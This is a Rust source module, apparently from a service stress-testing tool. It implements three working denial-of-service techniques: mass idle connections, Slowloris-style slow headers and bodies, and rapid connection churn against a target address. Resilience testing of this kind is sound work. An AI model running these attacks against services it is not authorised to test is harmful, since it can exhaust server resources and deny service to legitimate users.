//! Attacks by connections: silent ones, slow ones, and many after one another.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use crate::attack::{Running, Target};
use crate::line::connect;

/// How long each waits before reconnecting: otherwise the system itself would be the bottleneck.
const AGAIN: Duration = Duration::from_millis(200);

/// Silent connections, opened again when they are closed.
pub fn silent(target: Target) -> Running {
    Box::pin(target.at_once(1_100, |target, _| async move {
        let mut stream = connect(&target.address).await?;
        target.tally.count("opened");
        let heard = stream.read_u8().await;
        sleep(AGAIN).await;
        heard.map(drop)
    }))
}

/// A request of which the head never ends, and one of which the body comes slowly.
const SLOW: [&str; 2] = [
    "GET /health HTTP/1.1\r\nHost: a\r\nX: ",
    "POST /api/records/verify HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n",
];

/// Requests of which a byte comes now and then.
pub fn slow(target: Target) -> Running {
    Box::pin(target.at_once(500, |target, place| async move {
        let mut stream = connect(&target.address).await?;
        stream.write_all(SLOW[place % 2].as_bytes()).await?;
        target.tally.count("begun");
        let (mut from, mut to) = stream.split();
        let sending = async {
            loop {
                sleep(Duration::from_secs(1)).await;
                to.write_all(b" ").await?;
                target.tally.count("bytes");
            }
        };
        let end = tokio::select! {
            end = sending => end,
            answer = from.read_u8() => answer.map(drop),
        };
        sleep(AGAIN).await;
        end.and(Err(io::ErrorKind::UnexpectedEof.into()))
    }))
}

/// Connections that are opened and closed as fast as can be.
pub fn churn(target: Target) -> Running {
    Box::pin(target.at_once(16, |target, _| async move {
        let stream = connect(&target.address).await?;
        // Ended at once, so that the system keeps nothing of it.
        let _ = stream.set_zero_linger();
        target.tally.count("opened");
        Ok(())
    }))
}
